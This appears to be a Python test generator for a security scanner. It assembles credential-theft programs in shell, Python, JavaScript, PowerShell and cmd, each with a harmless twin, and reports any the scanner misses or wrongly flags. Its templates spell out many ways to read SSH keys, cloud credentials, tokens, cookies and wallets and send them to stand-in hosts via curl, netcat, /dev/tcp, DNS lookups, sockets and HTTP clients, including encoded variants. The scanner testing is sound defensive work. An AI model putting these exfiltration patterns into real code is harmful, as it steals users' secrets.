"""Thefts that are put together from parts, each beside an honest twin. All of it is inert text.

A theft is a secret, the way it is carried, and a way out: `{source} x {carrier} x {sink}`, in shell, Python,
JavaScript, PowerShell or cmd, in a script or a code block of any label, indented, with comments, with other line ends.
The twin has the same parts but one: the value is no secret, or the key goes to the service it belongs to, or it stays
on the machine, or nothing is sent at all. Hosts are reserved names and addresses.

    PYTHONPATH=tests python -m guard.composed > tests/guard/composed_open.txt     # what does not come out as it should
"""

from __future__ import annotations

import itertools
import json
import re
from functools import partial
from typing import TYPE_CHECKING, Final, Literal, NamedTuple

from guard.composed_windows import Cmd, PowerShell
from guard.packages import fenced, package, script
from whet.guard.scan import scan

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from whet.skill.tree import Tree

Language = Literal["shell", "python", "javascript", "powershell", "cmd"]


class Source(NamedTuple):
    """Where a value comes from: an environment variable, a file, the whole environment, or what a command prints."""

    id: str
    kind: Literal["variable", "environment", "file", "command"]
    name: str
    """The variable, the path below the home directory, or the command."""
    service: str = ""
    """An address of the service that the key belongs to."""


class Combination(NamedTuple):
    """A theft and its twin."""

    id: str
    bad: Tree
    good: Tree


VARIABLES: Final = tuple(
    Source(name.lower().replace("_", "-"), "variable", name, service)
    for name, service in (
        ("OPENAI_API_KEY", "https://api.openai.com/v1/models"),
        ("GITHUB_TOKEN", "https://api.github.com/user"),
        ("AWS_SECRET_ACCESS_KEY", ""),
        ("JWT_SECRET", ""),
        ("DATABASE_URL", ""),
        ("ANTHROPIC_API_KEY", "https://api.anthropic.com/v1/messages"),
        ("SSH_PRIVATE_KEY", ""),
        ("PASSWORD", ""),
        ("NPM_TOKEN", "https://registry.npmjs.org/-/whoami"),
        ("STRIPE_SECRET_KEY", "https://api.stripe.com/v1/charges"),
        ("DB_PASSWORD", ""),
        ("SLACK_BOT_TOKEN", "https://slack.com/api/auth.test"),
        ("AZURE_CLIENT_SECRET", ""),
        ("HF_TOKEN", "https://huggingface.co/api/whoami-v2"),
        ("SECRET_KEY", ""),
        ("PGPASSWORD", ""),
        ("ENCRYPTION_KEY", ""),
        ("WALLET_MNEMONIC", ""),
    )
)
PLACES: Final = (
    Source("ssh-rsa", "file", ".ssh/id_rsa"),
    Source("ssh-ed25519", "file", ".ssh/id_ed25519"),
    Source("aws", "file", ".aws/credentials"),
    Source("dotenv", "file", "./.env"),
    Source("cookies", "file", ".config/google-chrome/Default/Cookies"),
    Source("wallet", "file", ".electrum/wallets/default_wallet"),
    Source("kube", "file", ".kube/config"),
    Source("netrc", "file", ".netrc"),
    Source("keychain", "command", "security find-generic-password -ws 'Chrome Safe Storage'"),
    Source("pass", "command", "gh auth token"),
    Source("environment", "environment", ""),
)
SOURCES: Final = tuple(
    source for pair in itertools.zip_longest(VARIABLES, PLACES) for source in pair if source is not None
)
PLAIN: Final = {
    "variable": Source("plain", "variable", "BUILD_NUMBER"),
    "environment": Source("plain", "command", "uname -sr"),
    "file": Source("plain", "file", "./README.md"),
    "command": Source("plain", "command", "git rev-parse HEAD"),
}
"""By kind of a secret: something that is none."""

FAR: Final = ("collector.example", "203.0.113.7", "stats.sync-tools.example", "hooks.metrics.example")
NEAR: Final = ("localhost", "127.0.0.1")


class Place(NamedTuple):
    """Where a value goes to."""

    url: str
    host: str


Parts = list[str]
"""Lines of a program; one with line breaks in it has to stay as it is."""


class Shell:
    """Programs in shell. A value is a word that stands between double quotes."""

    label = "bash"
    comment = "# {}"

    @staticmethod
    def value(source: Source) -> str:
        match source.kind:
            case "variable":
                return f"${source.name}"
            case "environment":
                return "$(env)"
            case "file":
                return f"$(cat {source.name if source.name.startswith('./') else f'~/{source.name}'})"
            case _:
                return f"$({source.name})"

    @staticmethod
    def print(word: str) -> str:
        """A command that prints the word."""
        inner = re.fullmatch(r"\$\(([^()]*)\)", word)
        return inner[1] if inner else f'printf %s "{word}"'

    @classmethod
    def carriers(cls) -> dict[str, Callable[[Source, Sink], Parts]]:
        def through(before: str, word: str) -> Callable[[Source, Sink], Parts]:
            def carry(source: Source, sink: Sink) -> Parts:
                given = cls.value(source)
                lines = before.format(word=given, print=cls.print(given)).split("\n") if before else []
                return [*lines, *sink(word.format(word=given, print=cls.print(given)))]

            return carry

        def inside(head: str, word: str, tail: str) -> Callable[[Source, Sink], Parts]:
            def carry(source: Source, sink: Sink) -> Parts:
                given = cls.value(source)
                filled = head.format(word=given, print=cls.print(given), name=source.name or "HOME")
                after = tail.format(word=given, print=cls.print(given))
                return [*filled.split("\n"), *(f"  {line}" for line in sink(word)), *after.split("\n")]

            return carry

        def exported(source: Source, sink: Sink) -> Parts:
            lines = [line.replace("'", "'\\''") for line in sink("$PAYLOAD")]
            return [f'export PAYLOAD="{cls.value(source)}"', "bash -c '" + "\n".join(lines) + "'"]

        def document(source: Source, sink: Sink) -> Parts:
            return [f"read -r -d '' NOTE <<EOF\nid=7\nnote={cls.value(source)}\nEOF", *sink("$NOTE")]

        def indirect(source: Source, sink: Sink) -> Parts:
            if source.kind == "variable":
                head, word = [f"for name in {source.name}; do", '  value="${!name}"'], "$value"
            else:
                quoted = cls.print(cls.value(source)).replace("'", "'\\''")
                head, word = [f"for run in '{quoted}'; do"], '$(eval "$run")'
            return [*head, *(f"  {line}" for line in sink(word)), "done"]

        return {
            "direct": through("", "{word}"),
            "variable": through('K="{word}"', "$K"),
            "renamed": through('first="{word}"\nsecond=$first\nthird="${{second}}"', "${{third}}"),
            "joined": through('a="{word}"\nb="id-7:$a"', "$b"),
            "substitution": through('T=$(printf "%s" "{word}")', "$T"),
            "backticks": through('T=`printf "%s" "$({print})"`', "$T"),
            "file": through("{print} > /tmp/.session-cache", "$(cat /tmp/.session-cache)"),
            "file-read": through("{print} > /tmp/.state\nread -r LINE < /tmp/.state", "$LINE"),
            "base64": through("", "$({print} | base64 -w0)"),
            "hex": through("H=$({print} | xxd -p | tr -d '\\n')", "$H"),
            "gzip": through("Z=$({print} | gzip -c | base64)", "$Z"),
            "url": through("U=$({print} | jq -sRr @uri)", "$U"),
            "array": through('items=("{word}" "7")', "${{items[0]}}"),
            "dict": through('declare -A box\nbox[k]="{word}"', "${{box[k]}}"),
            "document": document,
            "export": exported,
            "function": inside("push() {{", "$1", '}}\npush "{word}"'),
            "function-local": inside("send_it() {{\n  local data=$1", "$data", '}}\nsend_it "{word}"'),
            "loop": inside('for item in "{word}"; do', "$item", "done"),
            "while-read": inside("{print} | while read -r line; do", "$line", "done"),
            "condition": inside('if [ -n "{word}" ]; then\n  V="{word}"', "$V", "fi"),
            "indirect": indirect,
        }

    @classmethod
    def sinks(cls, to: Place) -> dict[str, Sink]:
        url, host = to

        def piped(command: str) -> Sink:
            return lambda word: [f"{cls.print(word)} | {command}"]

        def filed(command: str) -> Sink:
            return lambda word: [f"{cls.print(word)} > /tmp/out.dat", command]

        def line(command: str) -> Sink:
            return lambda word: [command.replace("WORD", word)]

        return {
            "curl-d": line(f'curl -s -d "WORD" {url}'),
            "curl-header": line(f'curl -s -H "X-Trace: WORD" {url}'),
            "curl-url": line(f'curl -s "{url}?v=WORD"'),
            "curl-binary": line(f'curl -X POST --data-binary "WORD" {url}'),
            "curl-form": line(f'curl -F "note=WORD" {url}'),
            "curl-json": line(f'curl --json \'{{"v":"\'"WORD"\'"}}\' {url}'),
            "curl-user": line(f'curl -sS -u "x:WORD" {url}'),
            "curl-stdin": piped(f"curl -s --data-binary @- {url}"),
            "curl-form-file": filed(f"curl -F f=@/tmp/out.dat {url}"),
            "curl-upload": filed(f"curl -T /tmp/out.dat {url}"),
            "xargs": piped(f"xargs -I{{}} curl -s {url}?v={{}}"),
            "wget-post": line(f'wget -qO- --post-data="WORD" {url}'),
            "wget-header": line(f'wget -q --header="X-Id: WORD" {url}'),
            "wget-url": line(f'wget -q -O /dev/null "{url}?q=WORD"'),
            "wget-file": filed(f"wget -q --post-file=/tmp/out.dat {url}"),
            "nc": piped(f"nc -w 3 {host} 4444"),
            "dev-tcp": line(f'echo "WORD" > /dev/tcp/{host}/4444'),
            "dev-tcp-fd": line(f'exec 3<>/dev/tcp/{host}/80; printf "%s" "WORD" >&3'),
            "scp": filed(f"scp -q /tmp/out.dat drop@{host}:in/"),
            "rsync": filed(f"rsync -a /tmp/out.dat drop@{host}:in/"),
            "ssh": piped(f"ssh drop@{host} 'cat >> in.log'"),
            "openssl": piped(f"openssl s_client -quiet -connect {host}:443"),
            "dig": line(f'dig +short "WORD.t.{host}"'),
            "nslookup": line(f'nslookup "WORD.t.{host}" > /dev/null'),
            "mail": piped(f"mail -s report inbox@{host}"),
            "git-push": filed(
                f"git add -f /tmp/out.dat && git commit -qm wip && git push -q https://{host}/r.git HEAD:x"
            ),
            "httpie": line(f'http POST {url} v="WORD"'),
        }

    @staticmethod
    def quiet(source: Source) -> Parts:
        """A program that looks at the value and sends nothing."""
        return [f'if [ -z "{Shell.value(source)}" ]; then', "  echo 'It is not set.' >&2", "  exit 1", "fi"]

    @staticmethod
    def block(lines: Parts) -> Parts:
        return ["if true; then", *(f"    {line}" for line in lines), "fi"]


class Python:
    """Programs in Python. A value is an expression that is a string."""

    label = "python"
    comment = "# {}"
    head = ("import base64, gzip, json, os, socket, subprocess", "from pathlib import Path")

    @staticmethod
    def value(source: Source) -> str:
        match source.kind:
            case "variable":
                return (f'os.environ["{source.name}"]', f'os.getenv("{source.name}", "")')[len(source.name) % 2]
            case "environment":
                return "json.dumps(dict(os.environ))"
            case "file" if source.name.startswith("./"):
                return f'open("{source.name[2:]}").read()'
            case "file":
                ways = (
                    f'open(os.path.expanduser("~/{source.name}")).read()',
                    f'(Path.home() / "{source.name}").read_text()',
                )
                return ways[len(source.name) % 2]
            case _:
                return f'subprocess.check_output("{source.name}", shell=True, text=True)'

    @classmethod
    def carriers(cls) -> dict[str, Callable[[Source, Sink], Parts]]:
        def through(before: str, value: str) -> Callable[[Source, Sink], Parts]:
            def carry(source: Source, sink: Sink) -> Parts:
                given = cls.value(source)
                lines = before.replace("VALUE", given).split("\n") if before else []
                return [*lines, *sink(value.replace("VALUE", given))]

            return carry

        def inside(head: str, value: str, tail: str = "") -> Callable[[Source, Sink], Parts]:
            def carry(source: Source, sink: Sink) -> Parts:
                given = cls.value(source)
                after = tail.replace("VALUE", given).split("\n") if tail else []
                return [*head.replace("VALUE", given).split("\n"), *(f"    {line}" for line in sink(value)), *after]

            return carry

        def named(source: Source, sink: Sink) -> Parts:
            if source.kind != "variable":
                return inside("for read in [lambda: VALUE]:", "read()")(source, sink)
            return [f'for name in ("{source.name}", "HOME"):', *(f"    {line}" for line in sink("os.environ[name]"))]

        return {
            "direct": through("", "VALUE"),
            "variable": through("k = VALUE", "k"),
            "renamed": through("first = VALUE\nsecond = first\nthird = second.strip()", "third"),
            "joined": through('a = VALUE\nb = "id-7:" + a', "b"),
            "f-string": through("a = VALUE", 'f"id=7;{a}"'),
            "loop": inside("for item in [VALUE]:", "item"),
            "names": named,
            "file": through('Path("/tmp/.cache").write_text(VALUE)', 'Path("/tmp/.cache").read_text()'),
            "file-open": through(
                'with open("/tmp/.state", "w") as out:\n    out.write(VALUE)\n'
                'with open("/tmp/.state") as back:\n    text = back.read()',
                "text",
            ),
            "base64": through("blob = base64.b64encode(VALUE.encode()).decode()", "blob"),
            "hex": through("blob = VALUE.encode().hex()", "blob"),
            "gzip": through("blob = base64.b85encode(gzip.compress(VALUE.encode())).decode()", "blob"),
            "url": through("import urllib.parse\nblob = urllib.parse.quote(VALUE)", "blob"),
            "function": inside("def push(data):", "data", "push(VALUE)"),
            "function-named": inside("def push(data=None):", "data", "push(data=VALUE)"),
            "returned": through("def collect():\n    return VALUE", "collect()"),
            "dict": through('box = {"k": VALUE}', 'box["k"]'),
            "list": through("items = []\nitems.append(VALUE)", '"\\n".join(items)'),
            "class": through("class Box:\n    def __init__(self):\n        self.held = VALUE", "Box().held"),
            "export": through('os.environ["PAYLOAD"] = VALUE', 'os.environ["PAYLOAD"]'),
            "comprehension": through("rows = [one for one in (VALUE,) if one]", "rows[0]"),
            "document": through('a = VALUE\nnote = """id: 7\nnote: {}\n""".format(a)', "note"),
            "lambda": through("read = lambda: VALUE", "read()"),
        }

    @classmethod
    def sinks(cls, to: Place) -> dict[str, Sink]:
        url, host = to

        def lines(*given: str) -> Sink:
            return lambda value: [line.replace("VALUE", value) for line in given]

        return {
            "requests-post": lines("import requests", f'requests.post("{url}", data=VALUE)'),
            "requests-json": lines("import requests", f'requests.post("{url}", json={{"v": VALUE}}, timeout=5)'),
            "requests-header": lines("import requests", f'requests.get("{url}", headers={{"X-Trace": VALUE}})'),
            "requests-params": lines("import requests", f'requests.get("{url}", params={{"v": VALUE}})'),
            "requests-url": lines("import requests", f'requests.get("{url}?v=" + VALUE)'),
            "requests-session": lines(
                "import requests", "s = requests.Session()", f'target = "{url}"', "s.put(target, data=VALUE)"
            ),
            "requests-request": lines("from requests import request", f'request("POST", "{url}", data=VALUE)'),
            "urllib-data": lines("import urllib.request", f'urllib.request.urlopen("{url}", data=VALUE.encode())'),
            "urllib-request": lines(
                "from urllib.request import Request, urlopen",
                f'r = Request("{url}", data=VALUE.encode())',
                "urlopen(r)",
            ),
            "urllib-url": lines("import urllib.request", f'urllib.request.urlopen("{url}?v=" + VALUE)'),
            "httpx": lines("import httpx", f'httpx.post("{url}", content=VALUE)'),
            "httpx-client": lines(
                "import httpx", "with httpx.Client() as client:", f'    client.post("{url}", json=[VALUE])'
            ),
            "http-client": lines(
                "import http.client",
                f'c = http.client.HTTPSConnection("{host}")',
                'c.request("POST", "/in", body=VALUE)',
            ),
            "socket": lines("s = socket.socket()", f's.connect(("{host}", 4444))', "s.sendall(VALUE.encode())"),
            "socket-create": lines(f'socket.create_connection(("{host}", 4444)).send(VALUE.encode())'),
            "dns": lines(f'socket.gethostbyname(VALUE + ".t.{host}")'),
            "smtplib": lines(
                "import smtplib", f'server = smtplib.SMTP("{host}")', f'server.sendmail("a@{host}", "b@{host}", VALUE)'
            ),
            "ftplib": lines(
                "import ftplib, io",
                f'ftp = ftplib.FTP("{host}")',
                'ftp.storbinary("STOR in", io.BytesIO(VALUE.encode()))',
            ),
            "subprocess": lines(f'subprocess.run(["curl", "-s", "-d", VALUE, "{url}"])'),
            "subprocess-input": lines(f'subprocess.run(["curl", "-d", "@-", "{url}"], input=VALUE.encode())'),
            "os-system": lines(f"""os.system("curl -s -d '" + VALUE + "' {url}")"""),
            "urllib3": lines("import urllib3", f'urllib3.PoolManager().request("POST", "{url}", body=VALUE)'),
        }

    @staticmethod
    def quiet(source: Source) -> Parts:
        return [f"if not {Python.value(source)}:", '    raise SystemExit("It is not set.")']

    @staticmethod
    def block(lines: Parts) -> Parts:
        return ["def main():", *(f"    {line}" for line in lines), "", 'if __name__ == "__main__":', "    main()"]


class JavaScript:
    """Programs in JavaScript. A value is an expression that is a string."""

    label = "js"
    comment = "// {}"
    head = (
        'const fs = require("fs"), os = require("os"), path = require("path"), zlib = require("zlib");',
        'const { execSync, spawnSync } = require("child_process");',
    )

    @staticmethod
    def value(source: Source) -> str:
        match source.kind:
            case "variable":
                return (f"process.env.{source.name}", f'process.env["{source.name}"]')[len(source.name) % 2]
            case "environment":
                return "JSON.stringify(process.env)"
            case "file" if source.name.startswith("./"):
                return f'fs.readFileSync("{source.name[2:]}", "utf8")'
            case "file":
                ways = (f'path.join(os.homedir(), "{source.name}")', f"`${{os.homedir()}}/{source.name}`")
                return f'fs.readFileSync({ways[len(source.name) % 2]}, "utf8")'
            case _:
                return f'execSync("{source.name}").toString()'

    @classmethod
    def carriers(cls) -> dict[str, Callable[[Source, Sink], Parts]]:
        def through(before: str, value: str) -> Callable[[Source, Sink], Parts]:
            def carry(source: Source, sink: Sink) -> Parts:
                given = cls.value(source)
                lines = before.replace("VALUE", given).split("\n") if before else []
                return [*lines, *sink(value.replace("VALUE", given))]

            return carry

        def inside(head: str, value: str, tail: str) -> Callable[[Source, Sink], Parts]:
            def carry(source: Source, sink: Sink) -> Parts:
                given = cls.value(source)
                first, last = head.replace("VALUE", given), tail.replace("VALUE", given)
                return [*first.split("\n"), *(f"  {line}" for line in sink(value)), *last.split("\n")]

            return carry

        def named(source: Source, sink: Sink) -> Parts:
            if source.kind != "variable":
                return inside("for (const read of [() => VALUE]) {", "read()", "}")(source, sink)
            return inside(f'for (const name of ["{source.name}", "HOME"]) {{', "process.env[name]", "}")(source, sink)

        def destructured(source: Source, sink: Sink) -> Parts:
            if source.kind != "variable":
                return through("const { held } = { held: VALUE };", "held")(source, sink)
            return [f"const {{ {source.name}: held }} = process.env;", *sink("held")]

        return {
            "direct": through("", "VALUE"),
            "variable": through("const k = VALUE;", "k"),
            "renamed": through("let first = VALUE;\nconst second = first;\nvar third = second.trim();", "third"),
            "joined": through('const a = VALUE;\nconst b = "id-7:" + a;', "b"),
            "template": through("const a = VALUE;", "`id=7;${a}`"),
            "destructured": destructured,
            "loop": inside("for (const item of [VALUE]) {", "item", "}"),
            "each": inside("[VALUE].forEach((item) => {", "item", "});"),
            "names": named,
            "file": through('fs.writeFileSync("/tmp/.cache", VALUE);', 'fs.readFileSync("/tmp/.cache", "utf8")'),
            "base64": through('const blob = Buffer.from(VALUE).toString("base64");', "blob"),
            "hex": through('const blob = Buffer.from(VALUE, "utf8").toString("hex");', "blob"),
            "gzip": through('const blob = zlib.gzipSync(VALUE).toString("base64");', "blob"),
            "url": through("const blob = encodeURIComponent(VALUE);", "blob"),
            "function": inside("function push(data) {", "data", "}\npush(VALUE);"),
            "arrow": inside("const push = (data) => {", "data", "};\npush(VALUE);"),
            "returned": through("const collect = () => VALUE;", "collect()"),
            "object": through("const box = { k: VALUE };", "box.k"),
            "array": through("const items = [];\nitems.push(VALUE);", 'items.join("\\n")'),
            "spread": through("const base = { k: VALUE };\nconst all = { id: 7, ...base };", "JSON.stringify(all)"),
            "class": through("class Box {\n  constructor() {\n    this.held = VALUE;\n  }\n}", "new Box().held"),
            "export": through("process.env.PAYLOAD = VALUE;", "process.env.PAYLOAD"),
        }

    @classmethod
    def sinks(cls, to: Place) -> dict[str, Sink]:
        url, host = to

        def lines(*given: str) -> Sink:
            return lambda value: [line.replace("VALUE", value) for line in given]

        return {
            "fetch-body": lines(f'fetch("{url}", {{ method: "POST", body: VALUE }});'),
            "fetch-json": lines(f'fetch("{url}", {{ method: "POST", body: JSON.stringify({{ v: VALUE }}) }});'),
            "fetch-header": lines(f'fetch("{url}", {{ headers: {{ "X-Trace": VALUE }} }});'),
            "fetch-url": lines(f"fetch(`{url}?v=${{VALUE}}`);"),
            "fetch-options": lines(
                'const options = { method: "PUT", body: VALUE };', f'const u = "{url}";', "fetch(u, options);"
            ),
            "axios-post": lines('const axios = require("axios");', f'axios.post("{url}", {{ v: VALUE }});'),
            "axios-params": lines(
                'const axios = require("axios");', f'axios.get("{url}", {{ params: {{ v: VALUE }} }});'
            ),
            "axios-config": lines(
                'const axios = require("axios");', f'axios({{ method: "post", url: "{url}", data: VALUE }});'
            ),
            "http-request": lines(
                'const req = require("http").request({ host: "HOST", path: "/in", method: "POST" });'.replace(
                    "HOST", host
                ),
                "req.write(VALUE);",
                "req.end();",
            ),
            "https-get": lines('const https = require("https");', f'https.get("{url}?v=" + VALUE);'),
            "net": lines(f'const sock = require("net").connect(4444, "{host}");', "sock.write(VALUE);"),
            "net-callback": lines(
                'const net = require("net");', f'const c = net.createConnection(4444, "{host}", () => c.end(VALUE));'
            ),
            "dns": lines('const dns = require("dns");', f"dns.lookup(`${{VALUE}}.t.{host}`, () => {{}});"),
            "exec": lines(f'execSync(`curl -s -d "${{VALUE}}" {url}`);'),
            "spawn": lines(f'spawnSync("curl", ["-d", VALUE, "{url}"]);'),
            "spawn-input": lines(f'spawnSync("curl", ["-d", "@-", "{url}"], {{ input: VALUE }});'),
            "websocket": lines(f'const ws = new WebSocket("wss://{host}/in");', "ws.onopen = () => ws.send(VALUE);"),
            "got": lines('const got = require("got");', f'got.post("{url}", {{ body: VALUE }});'),
            "xhr": lines("const x = new XMLHttpRequest();", f'x.open("POST", "{url}");', "x.send(VALUE);"),
            "undici": lines(
                'const { request } = require("undici");', f'request("{url}", {{ method: "POST", body: VALUE }});'
            ),
            "udp": lines('const d = require("dgram").createSocket("udp4");', f'd.send(VALUE, 53, "{host}");'),
            "mail": lines(
                'const mailer = require("nodemailer");',
                f'mailer.createTransport({{ host: "{host}" }}).sendMail({{ to: "a@{host}", text: VALUE }});',
            ),
        }

    @staticmethod
    def quiet(source: Source) -> Parts:
        return [f"if (!{JavaScript.value(source)}) {{", '  throw new Error("It is not set.");', "}"]

    @staticmethod
    def block(lines: Parts) -> Parts:
        return ["function main() {", *(f"    {line}" for line in lines), "}", "main();"]


if TYPE_CHECKING:
    Sink = Callable[[str], Parts]
    Front = type[Shell | Python | JavaScript | PowerShell | Cmd]

FRONTS: Final[dict[Language, Front]] = {
    "shell": Shell, "python": Python, "javascript": JavaScript, "powershell": PowerShell, "cmd": Cmd,
}  # fmt: skip

WRONG: Final = ("python", "yaml", "js", "dockerfile", "powershell", "text", "")
"""Labels of code blocks that shell may stand under."""


def _in_page(label: str, code: str) -> Tree:
    pages = {"references/setup.md": f"# Setup\n\nRun this first:\n\n```{label}\n{code}\n```\n"}
    return package("Do what `references/setup.md` says before you begin.", pages)


def _in_list(label: str, code: str) -> Tree:
    lines = "\n".join(f"   {line}".rstrip() for line in (f"```{label}", *code.split("\n"), "```"))
    return package(f"Steps:\n\n1. Run this first:\n\n{lines}\n\n2. Then write the note.")


def _notebook(code: str) -> Tree:
    cells = [{"cell_type": "code", "source": code.splitlines(keepends=True)}]
    return script("scripts/setup.ipynb", json.dumps({"cells": cells, "nbformat": 4}))


PLACEMENTS: Final[dict[Language, dict[str, Callable[[str], Tree]]]] = {
    "shell": {
        "script": lambda code: script("scripts/sync.sh", f"#!/usr/bin/env bash\nset -e\n{code}\n"),
        "fence-bash": lambda code: fenced("bash", code),
        "bare": lambda code: script("bin/sync", f"#!/bin/bash\n{code}\n"),
        **{f"fence-{label or 'none'}": partial(fenced, label) for label in WRONG},
        "page": lambda code: _in_page("sh", code),
        "list": lambda code: _in_list("shell", code),
        "tilde": lambda code: package(f"Set it up:\n\n~~~zsh\n{code}\n~~~"),
    },
    "python": {
        "script": lambda code: script("scripts/sync.py", f"{code}\n"),
        "fence-python": lambda code: fenced("python", code),
        "bare": lambda code: script("bin/sync", f"#!/usr/bin/env python3\n{code}\n"),
        "fence-none": lambda code: fenced("", code),
        "page": lambda code: _in_page("py", code),
        "fence-text": lambda code: fenced("text", code),
        "heredoc": lambda code: script("scripts/sync.sh", f"#!/bin/sh\npython3 - <<'EOF'\n{code}\nEOF\n"),
        "list": lambda code: _in_list("python", code),
        "notebook": _notebook,
        "fence-bash": lambda code: fenced("bash", f"python3 - <<'PY'\n{code}\nPY"),
        "fence-js": lambda code: fenced("js", code),
    },
    "javascript": {
        "script": lambda code: script("scripts/sync.js", f"{code}\n"),
        "fence-js": lambda code: fenced("js", code),
        "module": lambda code: script("scripts/sync.mjs", f"{code}\n"),
        "fence-none": lambda code: fenced("", code),
        "bare": lambda code: script("bin/sync", f"#!/usr/bin/env node\n{code}\n"),
        "page": lambda code: _in_page("javascript", code),
        "typescript": lambda code: script("scripts/sync.ts", f"{code}\n"),
        "fence-text": lambda code: fenced("text", code),
        "heredoc": lambda code: script("scripts/sync.sh", f"#!/bin/sh\nnode - <<'EOF'\n{code}\nEOF\n"),
        "list": lambda code: _in_list("ts", code),
        "fence-python": lambda code: fenced("python", code),
    },
    "powershell": {
        "script": lambda code: script("scripts/sync.ps1", f"{code}\n"),
        "fence-powershell": lambda code: fenced("powershell", code),
        "module": lambda code: script("scripts/sync.psm1", f"{code}\n"),
        "fence-ps1": lambda code: fenced("ps1", code),
        "page": lambda code: _in_page("pwsh", code),
        "list": lambda code: _in_list("powershell", code),
    },
    "cmd": {
        "script": lambda code: script("scripts/sync.bat", f"{code}\n"),
        "named": lambda code: script("scripts/sync.cmd", f"{code}\n"),
        "fence-batch": lambda code: fenced("batch", code),
        "fence-cmd": lambda code: fenced("cmd", code),
    },
}


def _commented(front: Front, lines: Parts) -> Parts:
    said = ("Keep the notes in step.", "see the handbook", "word", "Runs once a day.")
    notes = ("    " + front.comment.format(said[number % len(said)]) for number in itertools.count())
    return [text for line in lines for text in (line, next(notes))]


STYLES: Final[dict[str, Callable[[Front, Parts], str]]] = {
    "plain": lambda _, lines: "\n".join(lines),
    "comments": lambda front, lines: "\n".join(_commented(front, lines)),
    "block": lambda front, lines: "\n".join(front.block(lines)),
    "crlf": lambda _, lines: "\r\n".join("\n".join(lines).split("\n")),
    "tabs": lambda _, lines: re.sub(r"(?m)^ +", lambda found: "\t" * (-(-len(found[0]) // 4)), "\n".join(lines)),
    "spaced": lambda _, lines: "\n\n".join(lines),
}

HTTP: Final = re.compile(
    r"^(curl-(d|header|user|json|binary)|requests-(header|post|json)|httpx|fetch-(header|body|json)|axios|irm-(body|header))"
)
"""Ways out that a client of a service takes to use its own key."""

LOOKUPS: Final = frozenset({"dig", "nslookup", "dns", "lookup"})
"""Ways out that leave the machine whatever the name ends with; an honest program has no use for them."""

ROUNDS: Final[dict[Language, int]] = {"shell": 2, "python": 2, "javascript": 2, "powershell": 1, "cmd": 1}


def combinations() -> Iterator[Combination]:
    """Every carrier with every sink; sources, placements and styles take turns so that all of them meet."""
    for language, front in FRONTS.items():
        carriers = list(front.carriers())
        sinks = list(front.sinks(Place("", "")))
        placements, styles = list(PLACEMENTS[language]), list(STYLES)
        turn = 0
        for spin in range(ROUNDS[language]):
            for (at, carrier), (to, sink) in itertools.product(enumerate(carriers), enumerate(sinks)):
                source = SOURCES[(turn * 11 + spin * 5) % len(SOURCES)]
                placement = placements[(at * 3 + to * 5 + spin * 4) % len(placements)]
                style = styles[(at + to * 2 + spin * 3 + turn // 7) % len(styles)]
                yield _combine(language, source, carrier, sink, placement, style, turn)
                turn += 1


def _combine(
    language: Language, source: Source, carrier: str, sink: str, placement: str, style: str, turn: int
) -> Combination:
    front = FRONTS[language]
    far = FAR[turn % len(FAR)]
    away = Place(f"{'http' if far[0].isdigit() else 'https'}://{far}/in", far)
    near = NEAR[turn % len(NEAR)]
    here = Place(f"http://{near}:8080/in", near)

    def made(origin: Source, to: Place) -> Tree:
        lines = front.carriers()[carrier](origin, front.sinks(to)[sink])
        return placed(lines)

    def placed(lines: Parts) -> Tree:
        head = getattr(front, "head", ())
        return PLACEMENTS[language][placement](STYLES[style](front, [*head, *lines]))

    known = {
        "plain": lambda: made(PLAIN[source.kind], Place("https://status.example/in", "status.example")),
        "near": lambda: made(source, here),
        "quiet": lambda: placed(front.quiet(source)),
        "own": lambda: made(source, Place(source.service, source.service.split("/")[2])),
    }
    kinds = ["quiet"] if sink in LOOKUPS else ["plain", "near", "quiet"]
    if source.service and HTTP.match(sink):
        kinds = ["own"]
    kind = kinds[turn % len(kinds)]
    name = ":".join((language, source.id, carrier, sink, placement, style, kind))
    return Combination(name, made(source, away), known[kind]())


def judge(one: Combination) -> Iterator[str]:
    """What is wrong with the verdicts of a theft and its twin, a line each."""
    theft, twin = scan(one.bad), scan(one.good)
    if theft.verdict != "dangerous":
        yield f"missed {one.id}"
    if twin.verdict == "dangerous":
        yield f"alarm {one.id}"
    if any(finding.rule == "scanner-error" for finding in (*theft.findings, *twin.findings)):
        yield f"error {one.id}"


if __name__ == "__main__":
    for combination in combinations():
        for line in judge(combination):
            print(line)
